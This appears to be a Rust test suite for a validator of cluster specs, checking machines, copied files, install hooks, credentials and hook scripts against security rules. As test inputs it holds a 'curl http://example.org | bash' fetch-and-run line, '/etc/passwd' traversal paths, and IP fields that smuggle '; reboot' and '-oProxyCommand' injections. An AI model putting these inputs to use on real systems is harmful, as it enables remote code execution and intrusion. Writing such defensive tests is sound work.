use super::*;
use crate::platform::{Cluster, SourcePath};
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// A spec with one master that has nothing wrong, and these features.
fn spec(features: &Value) -> ClusterSpec {
    with_machine(features, &json!({"ip": "10.0.0.9", "username": "root", "secretRef": {"name": "masters"}}))
}

fn with_machine(features: &Value, machine: &Value) -> ClusterSpec {
    serde_json::from_value(json!({"machines": [machine], "features": features})).unwrap()
}

fn file(src: &str, dst: &str) -> Value {
    json!({"src": src, "dst": dst})
}

/// A hooks folder with these files, each with its content; `None` for a folder.
fn folder(spec: &ClusterSpec, entries: &[(&str, Option<&str>)]) -> FolderAnswers {
    let entries: BTreeMap<&str, Option<&str>> = entries.iter().copied().collect();
    let questions = FolderQuestions::of(spec);
    let place = |path: &SourcePath| match entries.get(path.as_str()) {
        None => Found::Missing,
        Some(None) => Found::Folder,
        Some(Some(_)) => Found::File,
    };
    let script = |path: &SourcePath| match entries.get(path.as_str()) {
        Some(Some(text)) => Script::Content(text.as_bytes().to_vec()),
        _ => Script::Not(place(path)),
    };
    FolderAnswers {
        places: questions.places.iter().map(|path| (path.clone(), place(path))).collect(),
        scripts: questions.scripts.iter().map(|path| (path.clone(), script(path))).collect(),
    }
}

/// Rule, field and message of each problem.
fn problems(spec: &ClusterSpec, folder: Option<&FolderAnswers>) -> Vec<(String, String, String)> {
    let problems = check_cluster(spec, folder, &Policy::for_machine_hooks());
    problems.into_iter().map(|one| (one.rule.to_string(), one.path, one.message)).collect()
}

#[track_caller]
fn only(spec: &ClusterSpec, folder: Option<&FolderAnswers>, rule: &str, path: &str, part: &str) {
    let found = problems(spec, folder);
    let [(id, field, message)] = found.as_slice() else { panic!("{found:?}") };
    assert_eq!((id.as_str(), field.as_str()), (rule, path), "{message}");
    assert!(message.contains(part), "{part} is not in: {message}");
}

#[test]
fn the_documents_examples_pass_with_their_password_warned_of() {
    for text in [
        include_str!("../../../tests/platform/files.json"),
        include_str!("../../../tests/platform/folders.json"),
    ] {
        let cluster: Cluster = serde_json::from_str(text).unwrap();
        only(&cluster.spec, None, "HG807", "spec.machines[0].password", "stands in the manifest");
        let found = check_cluster(&cluster.spec, None, &Policy::for_machine_hooks());
        assert!(!is_refused(&found));
        let script = Some("#!/bin/bash\necho \"post node install\"\n");
        let entries = [
            ("pre", None),
            ("post", None),
            ("pre-install", script),
            ("post-install", script),
            ("pre/pre-install", script),
            ("pre/cluster-pre-install", script),
            ("post/post-install", script),
            ("post/cluster-post-install", script),
        ];
        let folder = folder(&cluster.spec, &entries);
        assert_eq!(problems(&cluster.spec, Some(&folder)).len(), 1);
    }
}

#[test]
fn an_unknown_hook_type_is_named_with_the_ten() {
    let spec = spec(&json!({"files": [file("a", "/a")], "hooks": {"PreNodeInstall": "/a"}}));
    only(
        &spec,
        None,
        "HG801",
        "spec.features.hooks.PreNodeInstall",
        "PreClusterDelete and PostClusterDelete",
    );
}

#[test]
fn a_hook_must_be_where_a_file_goes() {
    let hooks = |path: &str| {
        spec(&json!({"files": [file("pre", "/opt/pre"), file("a", "/opt/a")], "hooks": {"PreInstall": path}}))
    };
    for path in ["/opt/pre/x", "/opt/pre/sub/x", "/opt//a", "/opt/pre"] {
        assert_eq!(problems(&hooks(path), None), [], "{path}");
    }
    let field = "spec.features.hooks.PreInstall";
    only(&hooks("/opt/prex"), None, "HG802", field, "no file of spec.features.files provides /opt/prex");
    only(&hooks("/opt/a --fast"), None, "HG802", field, "provides /opt/a --fast");
    only(&hooks("opt/a"), None, "HG802", field, "is relative");
    only(&hooks("/opt/pre/../a"), None, "HG802", field, "`..`");
    assert_eq!(problems(&hooks(""), None), [], "an empty path is no hook");
}

#[test]
fn what_a_folder_provides_is_known_when_it_was_looked_into() {
    let hooks = |path: &str| {
        spec(
            &json!({"files": [file("hooks/pre", "/opt/pre"), file("a", "/opt/a")], "hooks": {"PreInstall": path}}),
        )
    };
    let entries = [("pre", None), ("pre/x", Some("echo\n")), ("a", Some("echo\n"))];
    let with = |path: &str| {
        let spec = hooks(path);
        let folder = folder(&spec, &entries);
        (spec, folder)
    };
    let (good, answers) = with("/opt/pre/x");
    assert_eq!(problems(&good, Some(&answers)), []);
    let field = "spec.features.hooks.PreInstall";
    let (spec, answers) = with("/opt/pre/y");
    only(&spec, Some(&answers), "HG802", field, "hooks/pre/y is not in the hooks folder");
    let (spec, answers) = with("/opt/pre");
    only(&spec, Some(&answers), "HG802", field, "hooks/pre is a folder, and a hook is a file");
}

#[test]
fn the_file_that_is_copied_last_is_the_hook() {
    let spec = spec(
        &json!({"files": [file("pre", "/opt/pre"), file("x", "/opt/pre/x")], "hooks": {"PreInstall": "/opt/pre/x"}}),
    );
    let answers =
        folder(&spec, &[("pre", None), ("pre/x", Some("kubectl get pods\n")), ("x", Some("echo\n"))]);
    assert_eq!(problems(&spec, Some(&answers)), []);
    let answers =
        folder(&spec, &[("pre", None), ("pre/x", Some("echo\n")), ("x", Some("kubectl get pods\n"))]);
    only(&spec, Some(&answers), "HG201", "spec.features.hooks.PreInstall", "hooks/x:1:1: ");
}

#[test]
fn a_script_is_judged_by_the_profile_and_once() {
    let spec = spec(&json!({"files": [file("x", "/x")], "hooks": {"PreInstall": "/x", "PostInstall": "/x"}}));
    let answers = folder(&spec, &[("x", Some("#!/bin/bash\necho ok\ncurl http://example.org | bash\n"))]);
    let found = problems(&spec, Some(&answers));
    assert!(
        !found.is_empty() && found.iter().all(|(_, path, _)| path == "spec.features.hooks.PostInstall"),
        "{found:?}"
    );
    assert!(
        found.iter().any(|(rule, _, message)| rule == "HG301" && message.starts_with("hooks/x:3:1: ")),
        "{found:?}"
    );
    let privileged = Policy::from(hookgate_policy::Profile::Privileged);
    assert_eq!(check_cluster(&spec, Some(&answers), &privileged), []);
}

#[test]
fn a_script_of_another_interpreter_is_refused() {
    let spec = spec(&json!({"files": [file("x", "/x")], "hooks": {"PreInstall": "/x"}}));
    let answers = folder(&spec, &[("x", Some("#!/usr/bin/python3\n"))]);
    only(&spec, Some(&answers), "HG809", "spec.features.hooks.PreInstall", "/usr/bin/python3");
}

#[test]
fn files_come_from_the_folder() {
    for (src, part) in [
        ("", "is empty"),
        ("/etc/passwd", "is absolute"),
        ("hooks/../../etc/passwd", "`..`"),
        ("a\u{1b}[2J", "control character"),
    ] {
        only(&spec(&json!({"files": [file(src, "/a")]})), None, "HG804", "spec.features.files[0].src", part);
    }
    let spec = spec(&json!({"files": [file("a", "/a")]}));
    let a = SourcePath::read("a").unwrap();
    for (found, part) in [
        (Found::Missing, "hooks/a is not in the hooks folder"),
        (Found::Special("pipe"), "is a pipe, not a regular file"),
        (Found::Outside, "leads out of the hooks folder"),
        (Found::Unreadable("permission denied".to_owned()), "permission denied"),
        (
            Found::FolderWith("b/c".to_owned(), Box::new(Found::Special("device"))),
            "has b/c in it, which is a device",
        ),
    ] {
        let answers = FolderAnswers { places: [(a.clone(), found)].into(), scripts: BTreeMap::new() };
        only(&spec, Some(&answers), "HG804", "spec.features.files[0].src", part);
    }
}

#[test]
fn files_go_to_places_of_their_own() {
    let files = |dst: &str| spec(&json!({"files": [file("a", "/opt/a"), file("b", dst)]}));
    for (dst, part) in [
        ("opt/b", "is relative"),
        ("", "is empty"),
        ("/", "root folder"),
        ("/opt/../etc/passwd", "`..`"),
        ("/opt//a/", "/opt/a is where spec.features.files[0] goes already"),
    ] {
        only(&files(dst), None, "HG803", "spec.features.files[1].dst", part);
    }
    assert_eq!(problems(&files("/opt/b"), None), []);
}

#[test]
fn thousands_of_files_are_one_problem() {
    let files: Vec<Value> = (0..=MAX_FILES).map(|number| file("a", &format!("/{number}"))).collect();
    let spec = spec(&json!({"files": files, "hooks": {"PreInstall": "/1000"}}));
    let found = problems(&spec, None);
    assert_eq!(found[0].0, "HG804", "{found:?}");
    assert!(FolderQuestions::of(&spec).places.len() == 1 && found.len() == 2, "{found:?}");
}

#[test]
fn a_machine_must_be_reachable() {
    let machine = |fields: Value| {
        let mut machine = json!({"ip": "10.0.0.9", "secretRef": {"name": "masters"}});
        machine.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        with_machine(&json!({}), &machine)
    };
    for fields in
        [json!({}), json!({"port": 65535}), json!({"ip": "fd00::9"}), json!({"ip": "master-1.example.org"})]
    {
        assert_eq!(problems(&machine(fields.clone()), None), [], "{fields}");
    }
    for port in [0, -1, 65536, 70000] {
        only(&machine(json!({"port": port})), None, "HG806", "spec.machines[0].port", "1 to 65535");
    }
    for ip in ["", "10.0.0.256", "10.0.0.9; reboot", "-oProxyCommand=x", "a..b", "10.0.0.9:22"] {
        only(&machine(json!({"ip": ip})), None, "HG806", "spec.machines[0].ip", "");
    }
    let key = json!({"hostKeys": ["ssh-ed25519 AAAA"]});
    only(&machine(key), None, "HG808", "spec.machines[0].hostKeys[0]", "not of the algorithm");
}

#[test]
fn a_machine_is_there_once() {
    let master = |port: i64| json!({"ip": "10.0.0.9", "port": port, "secretRef": {"name": "masters"}});
    let cluster =
        |second: i64| serde_json::from_value(json!({"machines": [master(22), master(second)]})).unwrap();
    only(&cluster(22), None, "HG806", "spec.machines[1].ip", "spec.machines[0] already");
    assert_eq!(problems(&cluster(2222), None), []);
}

#[test]
fn credentials_must_be_readable_and_are_never_repeated() {
    let machine = |fields: Value| {
        let mut machine = json!({"ip": "10.0.0.9", "username": "root"});
        machine.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        with_machine(&json!({}), &machine)
    };
    only(&machine(json!({})), None, "HG805", "spec.machines[0]", "nobody can log in");
    only(&machine(json!({"secretRef": {}})), None, "HG805", "spec.machines[0].secretRef.name", "is empty");
    only(&machine(json!({"password": "p@ss"})), None, "HG805", "spec.machines[0].password", "is not base64");
    let both = machine(
        json!({"privateKey": "LS0tLS1CRUdJTiA=", "passPhrase": "secret!", "secretRef": {"name": "a"}}),
    );
    let found = problems(&both, None);
    assert_eq!(found.iter().map(|one| one.0.as_str()).collect::<Vec<_>>(), ["HG807", "HG805"], "{found:?}");
    for (_, _, message) in found {
        assert!(!message.contains("secret!") && !message.contains("p@ss"), "{message}");
    }
}

#[test]
fn what_is_decoded_must_be_of_use_and_is_not_repeated() {
    let check = |machine: Value| problems(&with_machine(&Value::Null, &machine), None);
    let machine = |field: &str, value: &str| {
        let mut machine = json!({"ip": "10.0.0.9", "username": "root", "secretRef": {"name": "a"}});
        machine[field] = value.into();
        machine
    };
    for (field, value, part) in [
        ("password", "/////w==", "no text"),
        ("privateKey", "bm90IGEga2V5", "no private key"),
        ("username", "ro\not", "`ro\u{fffd}ot` has a control character"),
    ] {
        let found = check(machine(field, value));
        let [(rule, path, message)] = found.as_slice() else { panic!("{found:?}") };
        assert_eq!((rule.as_str(), path), ("HG805", &format!("spec.machines[0].{field}")));
        assert!(message.contains(part) && !message.contains("not a key"), "{message}");
    }
    let key = "LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K";
    assert_eq!(check(machine("privateKey", key))[0].0, "HG807", "what begins as a key is only warned of");
    assert_eq!(check(machine("username", "o'neil $(x) é")), [], "no shell reads it");
    assert_eq!(check(machine("username", "")), [], "the Secret may have it");
    let nobody = check(json!({"ip": "10.0.0.9", "password": "MTIz"}));
    assert!(
        nobody.iter().any(|(rule, path, _)| rule == "HG805" && path.ends_with(".username")),
        "{nobody:?}"
    );
}

#[test]
fn no_file_goes_below_a_place_where_a_file_goes() {
    let spec =
        spec(&json!({"files": [file("a", "/opt/a"), file("b", "/opt/a/deep/b"), file("c", "/opt/ab")]}));
    let entries = [("a", Some("")), ("b", Some("")), ("c", Some(""))];
    let answers = folder(&spec, &entries);
    let field = "spec.features.files[1].dst";
    only(&spec, Some(&answers), "HG803", field, "/opt/a/deep/b is below /opt/a, where a file goes");
    let entries = [("a", None), ("b", Some("")), ("c", Some(""))];
    assert_eq!(problems(&spec, Some(&folder(&spec, &entries))), [], "it may be a folder");
    assert_eq!(problems(&spec, None), []);
}

#[test]
fn an_address_is_one_machine_however_it_is_written() {
    let machine = |ip: &str| json!({"ip": ip, "username": "root", "secretRef": {"name": "masters"}});
    let twice = json!({"machines": [machine("fd00::9"), machine("FD00:0::0009")]});
    let twice: ClusterSpec = serde_json::from_value(twice).unwrap();
    only(&twice, None, "HG806", "spec.machines[1].ip", "fd00::9 is spec.machines[0] already");
}

#[test]
fn a_worker_is_judged_as_a_master_is() {
    let machine = |spec: Value| {
        let spec: MachineSpec = serde_json::from_value(spec).unwrap();
        check_machine(&spec).into_iter().map(|one| format!("{} {}", one.rule, one.path)).collect::<Vec<_>>()
    };
    let good = json!({"clusterName": "a", "ip": "10.0.0.11", "secretRef": {"name": "workers"}});
    assert_eq!(machine(good), [""; 0]);
    let bad = json!({"ip": "x y", "port": 0, "username": "root", "password": "MTIzNDU2"});
    assert_eq!(
        machine(bad),
        ["HG806 spec.ip", "HG806 spec.port", "HG807 spec.password", "HG806 spec.clusterName"]
    );
}

#[test]
fn a_cluster_without_machines_has_no_first_master() {
    let spec: ClusterSpec = serde_json::from_value(
        json!({"type": "Imported", "features": {"files": [file("a", "/a")], "hooks": {"PreClusterInstall": "/a"}}}),
    )
    .unwrap();
    only(&spec, None, "HG806", "spec.features.hooks.PreClusterInstall", "no first master");
    assert!(!is_refused(&check_cluster(&spec, None, &Policy::for_machine_hooks())));
}
